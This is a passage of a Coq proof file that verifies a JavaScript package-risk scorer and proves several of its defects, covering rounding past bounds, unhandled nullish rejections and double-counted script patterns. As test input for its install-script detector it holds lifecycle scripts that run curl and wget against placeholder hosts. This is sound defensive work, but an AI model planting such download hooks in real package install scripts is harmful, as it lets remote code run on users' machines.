  unfold entryOf, evaluateRule.
  destruct (evaluate rule packageData); reflexivity.
Qed.

(** One turn of the loop: the new running score does not depend on the
    entries, and a rule that throws leaves it as it is. *)
Lemma evaluateRule_score packageData rule s e1 e2 :
  fst (evaluateRule packageData (s, e1) rule) =
  fst (evaluateRule packageData (s, e2) rule).
Proof.
  unfold evaluateRule. destruct (evaluate rule packageData); reflexivity.
Qed.

Lemma evaluateRule_score_throw packageData rule s entries :
  returns packageData rule = false ->
  fst (evaluateRule packageData (s, entries) rule) = s.
Proof.
  unfold returns, evaluateRule.
  destruct (evaluate rule packageData); [discriminate | reflexivity].
Qed.

(** The loop: the entries are appended rule by rule. *)
Lemma fold_evaluateRule_entries packageData (rules : list (Rule D)) s entries :
  snd (fold_left (evaluateRule packageData) rules (s, entries)) =
  entries ++ map (entryOf packageData) rules.
Proof.
  revert s entries. induction rules as [| r rules IH]; intros s entries;
    cbn [fold_left map].
  - now rewrite app_nil_r.
  - pose proof (evaluateRule_entries packageData r s entries) as Hstep.
    destruct (evaluateRule packageData (s, entries) r) as [s' entries'].
    simpl in Hstep. subst entries'.
    rewrite IH, <- app_assoc. reflexivity.
Qed.

(** The loop: the rules that throw can be taken out without changing the
    running score. *)
Lemma fold_evaluateRule_score packageData (rules : list (Rule D)) s e1 e2 :
  fst (fold_left (evaluateRule packageData) rules (s, e1)) =
  fst (fold_left (evaluateRule packageData)
         (filter (fun r => returns packageData r = true) rules) (s, e2)).
Proof.
  revert s e1 e2. induction rules as [| r rules IH]; intros s e1 e2; [reflexivity |].
  rewrite filter_cons.
  destruct (decide (returns packageData r = true)) as [Hret | Hthrow];
    cbn [fold_left].
  -     pose proof (evaluateRule_score packageData r s e1 e2) as Hstep.
    destruct (evaluateRule packageData (s, e1) r) as [s1 e1'].
    destruct (evaluateRule packageData (s, e2) r) as [s2 e2'].
    simpl in Hstep. subst s2. apply IH.
  - apply not_true_is_false in Hthrow.
    pose proof (evaluateRule_score_throw packageData r s e1 Hthrow) as Hstep.
    destruct (evaluateRule packageData (s, e1) r) as [s1 e1'].
    simpl in Hstep. subst s1. apply IH.
Qed.

(** Taking out the disabled rules and taking out the throwing rules commute. *)
Lemma activeRules_withoutFailing packageData (rules : list (Rule D)) :
  filter (fun r => enabled r = true)
    (filter (fun r => returns packageData r = true) rules) =
  filter (fun r => returns packageData r = true)
    (filter (fun r => enabled r = true) rules).
Proof.
  induction rules as [| r rules IH]; [reflexivity |].
  rewrite !filter_cons.
  destruct (decide (returns packageData r = true)) as [Hr | Hr],
           (decide (enabled r = true)) as [He | He];
    rewrite ?filter_cons;
    repeat (destruct (decide _); try contradiction);
    now rewrite IH.
Qed.

(** Once the catch block has thrown, the loop is over. *)
Lemma fold_evaluateRule_thrown packageData
    (rules : list (ScoreCalculatorRejections.Rule D)) (ruleName : string) :
  fold_left (ScoreCalculatorRejections.evaluateRule packageData) rules
    (ScoreCalculatorRejections.CatchThrew ruleName) =
  ScoreCalculatorRejections.CatchThrew ruleName.
Proof. induction rules as [| r rules IH]; [reflexivity | exact IH]. Qed.

(** The loop runs to its end exactly when no rule it meets rejects with
    [undefined] or [null]. *)
Lemma fold_evaluateRule_running packageData
    (rules : list (ScoreCalculatorRejections.Rule D)) (s : Q)
    (entries : list (RuleEntry D)) :
  (exists s' entries',
     fold_left (ScoreCalculatorRejections.evaluateRule packageData) rules
       (ScoreCalculatorRejections.Running s entries) =
     ScoreCalculatorRejections.Running s' entries') <->
  Forall (fun r => ScoreCalculatorRejections.evaluate r packageData <>
                   ScoreCalculatorRejections.Rejected
                     JS.Nullish) rules.
Proof.
  revert s entries. induction rules as [| r rules IH]; intros s entries.
  - split; [constructor | intros _; now exists s, entries].
  - cbn [fold_left ScoreCalculatorRejections.evaluateRule].
    destruct (ScoreCalculatorRejections.evaluate r packageData)
      as [result | [message |]] eqn:Hr.
    + rewrite IH. split.
      * intros H. constructor; [congruence | exact H].
      * intros H. now inversion H.
    + rewrite IH. split.
      * intros H. constructor; [congruence | exact H].
      * intros H. now inversion H.
    + rewrite fold_evaluateRule_thrown. split.
      * intros (s' & entries' & H). discriminate.
      * intros H. inversion H. congruence.
Qed.

(** [calculateScore] returns a result exactly when the snapshot is present
    and no active rule rejects with [undefined] or [null]. *)
Lemma calculateScore_returns_iff (c : ScoreCalculatorRejections.Calculator D)
    (packageData : option PackageData) :
  (exists res, ScoreCalculatorRejections.calculateScore c packageData = inl res) <->
  exists present,
    packageData = Some present /\
    Forall (fun r => ScoreCalculatorRejections.evaluate r present <>
                     ScoreCalculatorRejections.Rejected
                       JS.Nullish)
      (ScoreCalculatorRejections.getActiveRules
         (ScoreCalculatorRejections.ruleRegistry c)).
Proof.
  unfold ScoreCalculatorRejections.calculateScore,
    ScoreCalculatorRejections.runRules.
  destruct packageData as [present |].
  - split.
    + intros [res Hres]. exists present. split; [reflexivity |].
      apply (fold_evaluateRule_running present _
               (baseScore (ScoreCalculatorRejections.config c)) []).
      destruct (fold_left _ _ _) as [s' entries' | n]; [| discriminate].
      now exists s', entries'.
    + intros (present' & [= <-] & Hall).
      apply (fold_evaluateRule_running present _
               (baseScore (ScoreCalculatorRejections.config c)) []) in Hall.
      destruct Hall as (s' & entries' & ->). eexists. reflexivity.
  - split; [intros [res Hres]; discriminate | intros (present & H & _); discriminate].
Qed.

(** On rules that throw nothing but Error objects the loop is the loop of
    [ScoreCalculator]. *)
Lemma fold_evaluateRule_error_objects packageData (rules : list (Rule D))
    (s : Q) (entries : list (RuleEntry D)) :
  fold_left (ScoreCalculatorRejections.evaluateRule packageData)
    (ScoreCalculatorRejections.getActiveRules
       (map ScoreCalculatorRejections.throwingErrors rules))
    (ScoreCalculatorRejections.Running s entries) =
  ScoreCalculatorRejections.Running
    (fst (fold_left (evaluateRule packageData) (getActiveRules rules) (s, entries)))
    (snd (fold_left (evaluateRule packageData) (getActiveRules rules) (s, entries))).
Proof.
  revert s entries. induction rules as [| r rules IH]; intros s entries;
    [reflexivity |].
  unfold ScoreCalculatorRejections.getActiveRules, getActiveRules in *.
  cbn [map].
  destruct (decide (enabled r = true)) as [Hen | Hen];
    [rewrite (filter_cons_True (fun x : Rule D => enabled x = true)) by exact Hen;
     rewrite filter_cons_True by exact Hen
    | rewrite (filter_cons_False (fun x : Rule D => enabled x = true)) by exact Hen;
      rewrite filter_cons_False by exact Hen; apply IH].
  cbn [fold_left].
  assert (Hstep :
            ScoreCalculatorRejections.evaluateRule packageData
              (ScoreCalculatorRejections.Running s entries)
              (ScoreCalculatorRejections.throwingErrors r) =
            ScoreCalculatorRejections.Running
              (fst (evaluateRule packageData (s, entries) r))
              (snd (evaluateRule packageData (s, entries) r))).
  { unfold ScoreCalculatorRejections.evaluateRule, evaluateRule.
    cbn [ScoreCalculatorRejections.throwingErrors
         ScoreCalculatorRejections.evaluate ScoreCalculatorRejections.name].
    destruct (evaluate r packageData) as [result | message]; reflexivity. }
  rewrite Hstep, IH.
  destruct (evaluateRule packageData (s, entries) r) as [s' entries'].
  reflexivity.
Qed.

(** On such rules the two models of [calculateScore] agree. *)
Lemma calculateScore_error_objects c (packageData : option PackageData) :
  ScoreCalculatorRejections.calculateScore
    (ScoreCalculatorRejections.withErrorObjects c) packageData =
  match calculateScore c packageData with
  | Return res => inl res
  | Throw _ => inr ScoreCalculatorRejections.PackageDataRequired
  end.
Proof.
  destruct packageData as [present |]; [| reflexivity].
  unfold ScoreCalculatorRejections.calculateScore,
    ScoreCalculatorRejections.runRules, calculateScore, runRules.
  cbn [ScoreCalculatorRejections.withErrorObjects
       ScoreCalculatorRejections.config ScoreCalculatorRejections.ruleRegistry].
  rewrite fold_evaluateRule_error_objects.
  destruct (fold_left (evaluateRule present) _ _) as [s entries]. reflexivity.
Qed.

(** Between 89.995 and 90 the two-decimal rounding gives 90. *)
Lemma roundTwoDecimals_near_90 (x : Q) :
  89.995 <= x -> x < 90 -> roundTwoDecimals x == 90.
Proof.
  intros Hlo Hhi. unfold roundTwoDecimals, mathRound.
  assert (Hfloor : Qfloor (x * 100 + (1 # 2)) = 9000%Z).
  { apply Z.le_antisymm.
    - apply Z.lt_succ_r. rewrite Zlt_Qlt.
      eapply Qle_lt_trans; [apply Qfloor_le |].
      apply Qlt_le_trans with (90 * 100 + (1 # 2)); [| discriminate].
      apply Qplus_lt_le_compat; [| apply Qle_refl].
      apply Qmult_lt_compat_r; [reflexivity | exact Hhi].
    - change 9000%Z with (Qfloor 9000). apply Qfloor_resp_le.
      apply Qle_trans with (89.995 * 100 + (1 # 2)); [discriminate |].
      apply Qplus_le_compat; [| apply Qle_refl].
      apply Qmult_le_compat_r; [exact Hlo | discriminate]. }
  rewrite Hfloor. reflexivity.
Qed.

(** Between 70 and 90 the band is Review. *)
Lemma getScoreBand_below_90 (x : Q) :
  89.995 <= x -> x < 90 -> getScoreBand x = Review.
Proof.
  intros Hlo Hhi. unfold getScoreBand.
  destruct (Qle_bool 90 x) eqn:E90.
  - apply Qle_bool_iff in E90. exfalso. exact (Qlt_not_le _ _ Hhi E90).
  - destruct (Qle_bool 70 x) eqn:E70; [reflexivity |].
    assert (H70 : 70 <= x) by (eapply Qle_trans; [| exact Hlo]; discriminate).
    apply Qle_bool_iff in H70. congruence.
Qed.

(** The band of a score depends on its value only. *)
Lemma getScoreBand_proper (x y : Q) : x == y -> getScoreBand x = getScoreBand y.
Proof.
  intros Hxy. unfold getScoreBand.
  assert (Hb : forall k, Qle_bool k x = Qle_bool k y).
  { intros k. destruct (Qle_bool k x) eqn:Ex, (Qle_bool k y) eqn:Ey; try reflexivity.
    - apply Qle_bool_iff in Ex. rewrite Hxy in Ex. apply Qle_bool_iff in Ex. congruence.
    - apply Qle_bool_iff in Ey. rewrite <- Hxy in Ey. apply Qle_bool_iff in Ey. congruence. }
  now rewrite !Hb.
Qed.
End CalculatorFacts.

Section CalculatorClaims.
Import JS Model ScoreBands ScoreCalculator CalculatorSpec Examples CalculatorExamples.
Local Open Scope Q_scope.

(** Where the rounding cannot cross a bound.  For every package and every
    registry of rules returning finite deductions and bonuses,
    [calculateScore] returns a result whose score lies between [minScore] and
    [maxScore], provided the bounds are in order and rounding to two decimals
    moves neither bound inwards (rounding [minScore] does not lower it,
    rounding [maxScore] does not raise it), as is the case for the defaults 0
    and 100. *)
Lemma calculateScore_score_within_bounds {D : Type}
    (c : Calculator D) (packageData : PackageData) :
  minScore (config c) <= maxScore (config c) ->
  minScore (config c) <= roundTwoDecimals (minScore (config c)) ->
  roundTwoDecimals (maxScore (config c)) <= maxScore (config c) ->
  exists res,
    calculateScore c (Some packageData) = Return res /\
    minScore (config c) <= score res /\ score res <= maxScore (config c).
Proof.
  intros Horder Hmin Hmax.
  eexists. split; [apply calculateScore_returns |]. cbn [score].
  destruct (clamp_bounds (config c) (fst (runRules c packageData)) Horder)
    as [Hlo Hhi].
  split.
  - eapply Qle_trans; [exact Hmin | now apply roundTwoDecimals_mono].
  - eapply Qle_trans; [apply roundTwoDecimals_mono; exact Hhi | exact Hmax].
Qed.

(** The default bounds, with a deduction of 100000. *)
Lemma calculateScore_score_within_bounds_witness :
  exists res,
    calculateScore extremeCalculator (Some plainPackage) = Return res /\
    0 <= score res /\ score res <= 100.
Proof.
  apply (calculateScore_score_within_bounds extremeCalculator plainPackage);
    vm_compute; discriminate.
Defined.

(** C2, the calculator at the failing input.  With [minScore] 0.004 and a
    rule that deducts 1000 the running score -900 is brought within the
    bounds, to 0.004, and then rounded to two decimals: the returned score is
    0, below [minScore], although the bounds were just enforced. *)
Theorem calculateScore_score_below_minScore :
  exists res,
    calculateScore fineFloorCalculator (Some plainPackage) = Return res /\
    fst (runRules fineFloorCalculator plainPackage) == -900 /\
    clamp (config fineFloorCalculator)
      (fst (runRules fineFloorCalculator plainPackage)) == 0.004 /\
    score res == 0 /\
    score res < minScore (config fineFloorCalculator).
Proof.
  eexists. split; [apply calculateScore_returns |]. vm_compute. tauto.
Qed.

(** Rules that throw Error objects.  When everything a rule throws carries
    a message, [calculateScore] throws exactly when the package is absent.
    On a present package it returns; every active rule has its entry in
    [ruleResults], in order; a rule whose [evaluate] throws gets the entry with
    risk level error, deduction 0, bonus 0 and the message; and the score is
    the one obtained with the throwing rules left out. *)
Lemma calculateScore_contains_rule_errors {D : Type} (c : Calculator D) :
  (exists message, calculateScore c None = Throw message) /\
  (forall packageData, exists res,
      calculateScore c (Some packageData) = Return res /\
      length (ruleResults res) = length (getRules c) /\
      (forall i rule, getRules c !! i = Some rule ->
         exists e, ruleResults res !! i = Some e /\ entryRuleName e = name rule) /\
      (forall i rule message,
         getRules c !! i = Some rule ->
         evaluate rule packageData = Throw message ->
         ruleResults res !! i = Some (errorEntry rule message)) /\
      scoreOf (withoutFailing packageData c) packageData = Some (score res)).
Proof.
  split; [eexists; reflexivity |].
  intros packageData. eexists. split; [apply calculateScore_returns |].
  cbn [ruleResults score]. unfold runRules, getRules.
  rewrite fold_evaluateRule_entries. cbn [app].
  repeat split.
  - apply length_map.
  - intros i rule Hi. exists (entryOf packageData rule). split.
    + rewrite list_lookup_fmap, Hi. reflexivity.
    + unfold entryOf, evaluateRule.
      destruct (evaluate rule packageData); reflexivity.
  - intros i rule message Hi Hthrow.
    rewrite list_lookup_fmap, Hi. cbn.
    unfold entryOf, evaluateRule. rewrite Hthrow. reflexivity.
  - unfold scoreOf. rewrite calculateScore_returns. cbn [score].
    unfold runRules, withoutFailing, getActiveRules. cbn [config ruleRegistry].
    do 3 f_equal.
    rewrite (fold_evaluateRule_score packageData
               (filter (fun r => enabled r = true) (ruleRegistry c)) _ [] []).
    do 2 f_equal. apply activeRules_withoutFailing.
Qed.

(** C3, the calculator at the failing input.  The snapshot is present and
    the second of three active rules rejects with [undefined]: the catch
    block of the loop reads the message of the thrown value, that read throws,
    and [calculateScore] itself throws.  No score is produced, no entry is
    recorded for the rule, and the third rule is never evaluated. *)
Theorem calculateScore_throws_on_nullish_rejection :
  ScoreCalculatorRejections.evaluate silentRejection plainPackage =
    ScoreCalculatorRejections.Rejected JS.Nullish /\
  ScoreCalculatorRejections.calculateScore silentRejectionCalculator
    (Some plainPackage) =
    inr (ScoreCalculatorRejections.MessageOfNullish "silent-rejection") /\
  ~ (exists res,
       ScoreCalculatorRejections.calculateScore silentRejectionCalculator
         (Some plainPackage) = inl res).
Proof.
  split; [reflexivity |]. split; [reflexivity |].
  intros [res Hres]. vm_compute in Hres. discriminate.
Qed.

(** C10.  The band is computed from the clamped running score before it is
    rounded, and the returned score is that value rounded to two decimals.
    When the clamped score lies in [89.995, 90) the returned score is 90 while
    the band is Review, the band of the scores below 90; a deduction of 10.004
    from the default base is such a case. *)
Theorem calculateScore_band_of_unrounded_score :
  (forall (D : Type) (c : Calculator D) (packageData : PackageData),
      exists res,
        calculateScore c (Some packageData) = Return res /\
        band res = getScoreBand (clamp (config c) (fst (runRules c packageData))) /\
        score res = roundTwoDecimals (clamp (config c) (fst (runRules c packageData))) /\
        (89.995 <= clamp (config c) (fst (runRules c packageData)) ->
         clamp (config c) (fst (runRules c packageData)) < 90 ->
         score res == 90 /\ band res = Review /\ getScoreBand (score res) = Safe)) /\
  (exists res,
      calculateScore nearSafeCalculator (Some plainPackage) = Return res /\
      score res == 90 /\ band res = Review /\ getScoreBand (score res) = Safe).
Proof.
  split.
  - intros D c packageData. eexists. split; [apply calculateScore_returns |].
    cbn [band score]. repeat split.
    + now apply roundTwoDecimals_near_90.
    + now apply getScoreBand_below_90.
    + rewrite (getScoreBand_proper _ 90); [reflexivity |].
      now apply roundTwoDecimals_near_90.
  - eexists. split; [apply calculateScore_returns |]. vm_compute. tauto.
Qed.
(** The calculator with a failing third rule: the rule has its error entry
    and the other three rules have theirs. *)
Lemma calculateScore_contains_rule_errors_witness :
  exists res,
    calculateScore extremeCalculator (Some plainPackage) = Return res /\
    ruleResults res !! 2%nat =
      Some (errorEntry (failingRule "error-rule" "Rule error") "Rule error") /\
    length (ruleResults res) = 4%nat.
Proof.
  destruct (proj2 (calculateScore_contains_rule_errors extremeCalculator) plainPackage)
    as (res & Hres & Hlen & _ & Herr & _).
  exists res. split; [exact Hres |]. split.
  - apply (Herr 2%nat (failingRule "error-rule" "Rule error") "Rule error");
      reflexivity.
  - rewrite Hlen. reflexivity.
Defined.

(** A deduction of 10.004 from the default base: score 90, band Review. *)
Lemma calculateScore_band_of_unrounded_score_witness :
  exists res,
    calculateScore nearSafeCalculator (Some plainPackage) = Return res /\
    score res == 90 /\ band res = Review /\ getScoreBand (score res) = Safe.
Proof.
  destruct (proj1 calculateScore_band_of_unrounded_score unit nearSafeCalculator
              plainPackage) as (res & Hres & _ & _ & Hnear).
  exists res. split; [exact Hres |].
  apply Hnear; vm_compute; [discriminate | reflexivity].
Defined.
End CalculatorClaims.

(** ** Lifecycle-script risk rule *)

Section LifecycleClaims.
Import JS Model LifecycleScriptRiskRule Examples LifecycleExamples.
Local Open Scope Q_scope.

Variable extract : PackageData -> StringMap.
Variable normalize : string -> string.

(** The deduction of an enabled rule is the tier function of the total risk
    and the high-risk flag of the scripts' analysis. *)
Lemma evaluate_deduction_tiers (rule : BaseRule) (packageData : PackageData) :
  isEnabled rule = true ->
  deduction (evaluate extract normalize rule packageData) ==
  deductionFor (weight rule)
    (snd (fst (analyzeScripts normalize (extract packageData))))
    (snd (analyzeScripts normalize (extract packageData))).
Proof.
  intros Hen. unfold evaluate. rewrite Hen. cbn [negb].
  destruct (extract packageData) as [| e l] eqn:E.
  - reflexivity.
  - cbn [keys map length Nat.eqb].
    destruct (analyzeScripts normalize (e :: l)) as [[findings totalRisk] hasHighRisk].
    reflexivity.
Qed.

(** With a total risk of three or more and no high-risk script, the tier
    function deducts the full weight while the level is medium. *)
Lemma full_deduction_medium_level (w : Q) (totalRisk : nat) :
  (3 <= totalRisk)%nat ->
  deductionFor w totalRisk false = w /\ riskLevelFor totalRisk false = RiskMedium.
Proof.
  intros H. unfold deductionFor, riskLevelFor.
  destruct totalRisk as [| [| [| n]]]; try lia. split; reflexivity.
Qed.

(** The two-download scenario for every extractor and normaliser that hand
    the two scripts over unchanged.  For a package whose lifecycle scripts are
    exactly postinstall [curl http://x] and preinstall [wget http://y], and a
    rule of weight 30: each script matches two suspicious patterns (the tool
    with an argument and the tool followed by http) and no high-risk pattern,
    so each accrues 2 points, the total risk is 4, and the deduction is the
    full weight 30. *)
Lemma two_downloads_full_deduction (packageData : PackageData) :
  extract packageData = twoDownloadScripts ->
  normalize curlScript = curlScript ->
  normalize wgetScript = wgetScript ->
  risk (_analyzeScript curlScript) = 2%nat /\
  risk (_analyzeScript wgetScript) = 2%nat /\
  isHighRisk (_analyzeScript curlScript) = false /\
  isHighRisk (_analyzeScript wgetScript) = false /\
  totalRiskOf (evaluate extract normalize (make 30) packageData) = Some 4%nat /\
  deduction (evaluate extract normalize (make 30) packageData) = 30.
Proof.
  intros Hextract Hcurl Hwget.
  assert (Hscripts :
            analyzeScripts normalize twoDownloadScripts =
            analyzeScripts (fun s => s) twoDownloadScripts).
  { unfold analyzeScripts, twoDownloadScripts. cbn [fold_left].
    unfold analyzeEntry. rewrite Hcurl, Hwget. reflexivity. }
  unfold totalRiskOf, evaluate. rewrite Hextract, Hscripts.
  by_evaluation.
Qed.
End LifecycleClaims.

Section LifecycleScenario.
Import JS Model LifecycleScriptRiskRule Examples LifecycleExamples.
Local Open Scope Q_scope.

(** The scenario with the helpers of [Examples]. *)
Lemma two_downloads_full_deduction_witness :
  risk (_analyzeScript curlScript) = 2%nat /\
  risk (_analyzeScript wgetScript) = 2%nat /\
  isHighRisk (_analyzeScript curlScript) = false /\
  isHighRisk (_analyzeScript wgetScript) = false /\
  totalRiskOf twoDownloadsResult = Some 4%nat /\
  deduction twoDownloadsResult = 30.
Proof.
  apply (two_downloads_full_deduction extractLifecycleScripts normalizeScript
           twoDownloads); reflexivity.
Defined.

(** C6, the rule at the failing input.  On the scenario each script is
    counted twice, once by the pattern of the tool with an argument (entries
    0 and 1 of [suspiciousCommands]) and once more by the pattern of the tool
    followed by http (entries 16 and 15): each script accrues 2 points, not
    1, the total risk is 4, not 2, and the deduction is 30, not 22. *)
Theorem two_downloads_not_partial_deduction :
  issues (_analyzeScript curlScript) = [SuspiciousCommand 0; SuspiciousCommand 16] /\
  issues (_analyzeScript wgetScript) = [SuspiciousCommand 1; SuspiciousCommand 15] /\
  risk (_analyzeScript curlScript) = 2%nat /\
  risk (_analyzeScript wgetScript) = 2%nat /\
  totalRiskOf twoDownloadsResult = Some 4%nat /\
  totalRiskOf twoDownloadsResult <> Some 2%nat /\
  deduction twoDownloadsResult == 30 /\
  ~ deduction twoDownloadsResult == 22.
Proof.
  repeat split; vm_compute; discriminate || reflexivity.
Qed.

(** C5, the rule at the failing input.  On the two-download scenario with
    weight 30 the total risk is 4 with no high-risk script: the deduction is
    the full weight, yet the overall risk level is medium, not high. *)
Theorem full_weight_deducted_at_medium_level :
  totalRiskOf twoDownloadsResult = Some 4%nat /\
  hasHighRiskOf twoDownloadsResult = Some false /\
  deduction twoDownloadsResult = weight (make 30) /\
  resultRiskLevel twoDownloadsResult = RiskMedium.
Proof.
  by_evaluation.
Qed.
End LifecycleScenario.

(** ** Update-behaviour rule *)

Section UpdateClaims.
Import JS Model UpdateBehaviorRule Examples UpdateExamples.
Local Open Scope Z_scope.

Variable extract : PackageData -> StringMap.
Variable normalize : string -> string.
Variable extractDeps : PackageData -> DepType -> option StringMap.
Variable collate : string -> string -> Z.

(** C7 (amended).  For two parseable versions whose numbers are safe
    integers (at most 2^53 - 1, so that [parseInt] reads them as written),
    analysed with the default major-jump threshold 2: with equal major and a
    minor difference of at most 5 in absolute value, or with equal major and
    minor whatever the patches, the jump is not unusual; with a major
    difference of at least 2 it is unusual, of type major-jump, with the major
    difference as magnitude. *)
Theorem version_jump_detection (rule : Rule) (a b : string) (pa pb : ParsedVersion) :
  versionJumpThreshold rule = 2 ->
  _parseVersion a = Some pa ->
  _parseVersion b = Some pb ->
  UpdateSpec.safeVersion pa -> UpdateSpec.safeVersion pb ->
  (major pa = major pb /\ Z.abs (minor pb - minor pa) <= 5 ->
   isUnusual (_analyzeVersionJump rule a b) = false) /\
  (major pa = major pb /\ minor pa = minor pb ->
   isUnusual (_analyzeVersionJump rule a b) = false) /\
  (major pb - major pa >= 2 ->
   _analyzeVersionJump rule a b =
   {| isUnusual := true; jumpType := Some MajorJump;
      magnitude := Some (major pb - major pa) |}).
Proof.
  intros Hthreshold Ha Hb _ _. unfold _analyzeVersionJump.
  rewrite Ha, Hb, Hthreshold. repeat split.
  - intros [Hmajor Hminor].
    destruct (Z.leb_spec 2 (major pb - major pa)); [lia |].
    destruct (Z.ltb_spec 5 (minor pb - minor pa)); [lia |].
    now rewrite andb_false_r.
  - intros [Hmajor Hminor].
    destruct (Z.leb_spec 2 (major pb - major pa)); [lia |].
    destruct (Z.ltb_spec 5 (minor pb - minor pa)); [lia |].
    now rewrite andb_false_r.
  - intros Hjump.
    destruct (Z.leb_spec 2 (major pb - major pa)); [reflexivity | lia].
Qed.

(** C9.  [evaluate] fails soft: without a package or without a name, when
    the registry client throws, when the package is unknown to the registry
    and when the history has fewer than two versions, the result is a zero
    deduction with risk level none and a reason.  [evaluate] is total: it
    does not throw. *)
Theorem evaluate_fails_soft (rule : Rule) :
  softMiss (evaluate extract normalize extractDeps collate rule None) /\
  (forall packageData,
      name packageData = None \/ name packageData = Some EmptyString ->
      softMiss (evaluate extract normalize extractDeps collate rule (Some packageData))) /\
  (forall packageData packageName message,
      name packageData = Some packageName ->
      getAllVersions (registryClient rule) packageName = Throw message ->
      softMiss (evaluate extract normalize extractDeps collate rule (Some packageData))) /\
  (forall packageData packageName,
      name packageData = Some packageName ->
      getAllVersions (registryClient rule) packageName = Return None ->
      softMiss (evaluate extract normalize extractDeps collate rule (Some packageData))) /\
  (forall packageData packageName versionHistory,
      name packageData = Some packageName ->
      getAllVersions (registryClient rule) packageName = Return (Some versionHistory) ->
      (length (keys versionHistory) < 2)%nat ->
      softMiss (evaluate extract normalize extractDeps collate rule (Some packageData))).
Proof.
  assert (Hsoft : forall reason error,
             softMiss {| deduction := 0%Q; details := Reason reason error;
                         riskLevel := RiskNone |}).
  { intros reason error. repeat split. now exists reason, error. }
  unfold evaluate. destruct (isEnabled (base rule)); cbn [negb];
    [| repeat apply conj; intros; apply Hsoft].
  split; [apply Hsoft |]. split; [| split; [| split]].
  - intros packageData [Hname | Hname]; rewrite Hname; apply Hsoft.
  - intros packageData packageName message Hname Hthrow. rewrite Hname.
    destruct packageName; cbn [orElse truthy]; [apply Hsoft |].
    unfold evaluateBody, _fetchVersionHistory. rewrite Hthrow. apply Hsoft.
  - intros packageData packageName Hname Hnull. rewrite Hname.
    destruct packageName; cbn [orElse truthy]; [apply Hsoft |].
    unfold evaluateBody, _fetchVersionHistory. rewrite Hnull. apply Hsoft.
  - intros packageData packageName versionHistory Hname Hhistory Hfew. rewrite Hname.
    destruct packageName; cbn [orElse truthy]; [apply Hsoft |].
    unfold evaluateBody, _fetchVersionHistory. rewrite Hhistory. cbn [bind].
    apply Nat.ltb_lt in Hfew. rewrite Hfew. apply Hsoft.
Qed.
End UpdateClaims.

Section UpdateScenarios.
Import JS Model UpdateBehaviorRule Examples UpdateExamples.
Local Open Scope Z_scope.

(** The default rule on 1.2.0 to 1.7.3, on 1.4.0 to 1.4.9 and on 1.0.0 to
    3.0.0. *)
Lemma version_jump_detection_witness :
  isUnusual (_analyzeVersionJump (defaultRule (Return None)) "1.2.0" "1.7.3") = false /\
  isUnusual (_analyzeVersionJump (defaultRule (Return None)) "1.4.0" "1.4.9") = false /\
  _analyzeVersionJump (defaultRule (Return None)) "1.0.0" "3.0.0" =
  {| isUnusual := true; jumpType := Some MajorJump; magnitude := Some 2 |}.
Proof.
  split; [| split].
  - eapply (proj1 (version_jump_detection (defaultRule (Return None))
                     "1.2.0" "1.7.3" _ _ eq_refl eq_refl eq_refl _ _)).
    vm_compute. split; [reflexivity | discriminate].
  - eapply (proj1 (proj2 (version_jump_detection (defaultRule (Return None))
                            "1.4.0" "1.4.9" _ _ eq_refl eq_refl eq_refl _ _))).
    vm_compute. split; reflexivity.
  - eapply (proj2 (proj2 (version_jump_detection (defaultRule (Return None))
                            "1.0.0" "3.0.0" _ _ eq_refl eq_refl eq_refl _ _))).
    vm_compute. discriminate.
  Unshelve. all: repeat split; discriminate.
Defined.

(** C7, counterexample.  Above 2^53 the numbers [parseInt] returns are not
    the integers written.  The versions 1.9007199254740993.0 and
    1.9007199254740998.0 have equal major and minors that differ by 5, yet
    the jump is reported unusual, a minor jump of 6.  The versions
    18014398509481984.0.0 and 18014398509481986.0.0 both parse and have
    majors that differ by 2, yet both majors are read as the same number and
    the jump is not reported. *)
Lemma version_jump_beyond_safe_integers :
  (decimalValue (chars "9007199254740998")
   - decimalValue (chars "9007199254740993") = 5) /\
  _analyzeVersionJump (defaultRule (Return None))
    "1.9007199254740993.0" "1.9007199254740998.0" =
  {| isUnusual := true; jumpType := Some MinorJump; magnitude := Some 6 |} /\
  (decimalValue (chars "18014398509481986")
   - decimalValue (chars "18014398509481984") = 2) /\
  option_map major (_parseVersion "18014398509481984.0.0") = Some 18014398509481984 /\
  option_map major (_parseVersion "18014398509481986.0.0") = Some 18014398509481984 /\
  isUnusual (_analyzeVersionJump (defaultRule (Return None))
               "18014398509481984.0.0" "18014398509481986.0.0") = false.
Proof.
  repeat split; vm_compute; reflexivity.
Qed.

(** A nameless snapshot, a registry that throws, and a history of one
    version. *)
Lemma evaluate_fails_soft_witness :
  softMiss (run (defaultRule (Return None)) (Some namelessSnapshot)) /\
  softMiss (run (defaultRule (Throw "Network error")) (Some (snapshotOf "1.0.0"))) /\
  softMiss (run (defaultRule (Return (Some oneVersionHistory)))
                (Some (snapshotOf "1.0.0"))).
Proof.
  split; [| split].
  - apply (proj1 (proj2 (evaluate_fails_soft extractLifecycleScripts normalizeScript
                           extractDependencies localeCompare (defaultRule (Return None))))).
    left. reflexivity.
  - apply (proj1 (proj2 (proj2
             (evaluate_fails_soft extractLifecycleScripts normalizeScript
                extractDependencies localeCompare (defaultRule (Throw "Network error")))))
             (snapshotOf "1.0.0") "test-package" "Network error"); reflexivity.
  - apply (proj2 (proj2 (proj2 (proj2
             (evaluate_fails_soft extractLifecycleScripts normalizeScript
                extractDependencies localeCompare
                (defaultRule (Return (Some oneVersionHistory)))))))
             (snapshotOf "1.0.0") "test-package" oneVersionHistory);
      [reflexivity | reflexivity | vm_compute; lia].
Defined.

(** C4, the rule at the failing input.  On a history with 1.2.0 and 1.10.0
    the version list of [_analyzeVersionChanges] is in the order of code
    units, 1.10.0 first, although the rule's own comparator puts 1.2.0 first;
    for the snapshot of 1.10.0 the window is then 1.10.0 alone, and the pair
    1.2.0, 1.10.0 with its threefold size is not diffed. *)
Theorem version_list_in_code_unit_order :
  sortedVersions minorTenHistory = ["1.10.0"; "1.2.0"] /\
  (forall collate, _compareVersionStrings collate "1.2.0" "1.10.0" = -8) /\
  (forall collate,
      sortBy (_compareVersionStrings collate) (keys minorTenHistory) =
      ["1.2.0"; "1.10.0"]) /\
  versionsToAnalyze (defaultRule (Return (Some minorTenHistory)))
    (snapshotOf "1.10.0") minorTenHistory = ["1.10.0"] /\
  findings
    (_analyzeVersionChanges extractLifecycleScripts normalizeScript
       extractDependencies localeCompare
       (defaultRule (Return (Some minorTenHistory)))
       (snapshotOf "1.10.0") minorTenHistory) =
  [VersionJumpFinding "1.2.0" "1.10.0" (Some MinorJump)].
Proof.
  repeat split; intros; vm_compute; reflexivity.
Qed.
End UpdateScenarios.

(** ** Tarball analyzer *)

Section TarballFacts.
Import JS Path TarballAnalyzer.

